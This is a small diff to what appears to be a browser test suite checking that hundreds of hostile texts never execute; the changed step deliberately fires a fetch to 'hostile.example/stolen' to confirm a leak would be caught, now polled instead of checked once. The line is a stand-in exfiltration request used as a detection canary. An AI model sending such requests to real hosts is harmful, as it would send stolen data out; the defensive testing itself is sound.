@@ -80,7 +80,7 @@ test("five hundred hostile texts are words and nothing else, wherever they stand
   await test.step("and one that did run would have been heard", async () => {
     faults.expect(/hostile\.example/u);
     await page.evaluate(() => fetch("https://hostile.example/stolen").catch(() => undefined));
-    expect(await heard()).not.toEqual([]);
+    await expect.poll(heard).not.toEqual([]);
   });
 });
 
